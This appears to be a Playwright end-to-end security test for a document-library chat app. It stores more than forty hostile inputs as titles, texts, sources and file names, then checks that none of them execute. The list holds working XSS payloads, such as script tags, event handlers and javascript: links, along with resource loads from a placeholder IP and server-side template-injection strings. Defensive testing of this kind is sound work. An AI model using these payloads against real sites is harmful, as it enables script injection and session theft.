"""Forty and more hostile texts, each as a text, a title, a file name, a source and a question: the page shows them all.

The fixture ``visit`` checks at the end that no script of a document ran, no dialog opened, and nothing left the server.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from typing import TYPE_CHECKING

import pytest

if TYPE_CHECKING:
    from playwright.sync_api import Locator, Page

    Opened = Callable[..., Page]
    Ask = Callable[[Page, str], Locator]

# Gradio counts its events with pandas in a way that pandas will drop.
pytestmark = pytest.mark.filterwarnings("ignore::DeprecationWarning:gradio.queueing")

RUN = "window.hacked='it'"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}//</ScRiPt >",
    "<script src=http://192.0.2.7/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="alert(1);{RUN}">',
    "<img src=http://192.0.2.7/pixel.png>",
    '<img srcset="http://192.0.2.7/a.png 1x">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    "<audio src=http://192.0.2.7/a.mp3 autoplay>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "<iframe src=http://192.0.2.7/></iframe>",
    "<object data=http://192.0.2.7/o.swf></object>",
    "<embed src=http://192.0.2.7/e.swf>",
    f'<a href="javascript:{RUN}">press</a>',
    f"<a href=javascript&colon;{RUN}>press</a>",
    "<form action=http://192.0.2.7/><button>press</button></form>",
    '<meta http-equiv="refresh" content="0;url=http://192.0.2.7/">',
    "<base href=http://192.0.2.7/>",
    "<link rel=stylesheet href=http://192.0.2.7/s.css>",
    "<style>@import url(http://192.0.2.7/s.css);*{display:none}</style>",
    '<div style="position:fixed;inset:0;background:url(http://192.0.2.7/b.png)">over all</div>',
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"' autofocus onfocus='{RUN}",
    f'" onmouseover="{RUN}" x="',
    f"`-{RUN}-`",
    "${window.hacked='template'}",
    "{{constructor.constructor(\"window.hacked='handlebars'\")()}}",
    "{{#with this}}{{lookup . 'constructor'}}{{/with}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "![picture](http://192.0.2.7/pixel.png)",
    f"[press](javascript:{RUN})",
    f"[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== '{RUN}')",
    "$$\\href{javascript:window.hacked='tex'}{press}$$",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\u202e<script>{RUN}</script>\u202c",
    "\u0000\u0008\u001b]8;;http://192.0.2.7/\u0007press\u001b]8;;\u0007",
    "A" * 400,
    "Z\u0351\u0349\u035a" * 60,
    "مرحبا <b>بالعالم</b> שלום",
]


@pytest.fixture
def laden(opened: Opened) -> Iterator[Page]:
    """The page over a library that holds a document for each payload; they are deleted at the end."""
    page = opened()
    added = []
    for number, payload in enumerate(PAYLOADS):
        clean = payload.replace("\u0000", " ")
        body = {
            "title": f"{clean} {number}",
            "text": f"Payload {number} is the quokka of {payload} and no other.",
            "source": clean,
            "published": f"2024-{number % 12 + 1:02}-03",
        }
        response = page.request.post("/v1/documents", data=body)
        added += [result["document_id"] for result in response.json()["results"]]
    name = f"{PAYLOADS[3]}.txt".replace("/", "")
    file = {"name": name, "mimeType": "text/plain", "buffer": b"The quokka came as a file."}
    response = page.request.post("/v1/documents", multipart={"files": file})
    added += [result["document_id"] for result in response.json()["results"]]
    assert len(set(added)) == len(PAYLOADS) + 1
    yield page
    for document_id in added:
        page.request.delete(f"/v1/documents/{document_id}")


def test_no_payload_works_anywhere(laden: Page, ask: Ask) -> None:
    """Chat, cards, document, conversations, documents and timeline show the payloads as text, and go on working."""
    page = laden
    assert len(PAYLOADS) >= 40
    page.reload()
    page.locator(".dl-examples button").first.wait_for()
    for number in (3, 17, 38, 39, 48):
        turn = ask(page, f"What is the quokka of payload {number}? {PAYLOADS[number][:200]}")
        for mark in turn.locator(".dl-mark").all():
            mark.hover()
        if turn.locator(".dl-mark").count():
            turn.locator(".dl-mark").first.click()
            page.locator(".dl-reader mark").wait_for()
            page.keyboard.press("Escape")
    page.locator(".dl-past summary").click()
    page.locator(".dl-past-item").first.wait_for()
    page.keyboard.press("Escape")

    page.get_by_role("tab", name="Documents").click()
    page.locator(".dl-table tbody tr").nth(len(PAYLOADS)).wait_for()
    names = [f"{payload[:180]}.exe".replace("/", "∕") for payload in PAYLOADS if payload.isprintable()]
    assert len(names) >= 40
    page.locator("#dl-files").set_input_files(
        [{"name": name, "mimeType": "text/plain", "buffer": b"No text."} for name in names]
    )
    page.locator(".dl-results li .dl-bad").nth(len(names) - 1).wait_for()
    assert page.locator(".dl-results li b").all_text_contents() == names
    shown = page.locator(".dl-title").all_text_contents()
    expected = {
        " ".join(f"{payload} {number}".split()) for number, payload in enumerate(PAYLOADS) if "\u0000" not in payload
    }
    assert expected <= {" ".join(title.split()) for title in shown}
    page.locator("tr", has_text=PAYLOADS[0]).first.get_by_role("button", name="Ask about it").click()
    page.get_by_role("tab", name="Timeline").click()
    page.get_by_label("Topic").fill(f"quokka {PAYLOADS[3]}")
    page.keyboard.press("Enter")
    page.locator(".dl-timeline .dl-told").filter(has_not_text="Searching").wait_for()

    made = "img, iframe, object, embed, video, audio, base, meta[http-equiv=refresh], [onerror], [onload], [onfocus]"
    assert page.locator(".gradio-container").locator(made).count() == 0
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.url.startswith(page.evaluate("location.origin"))
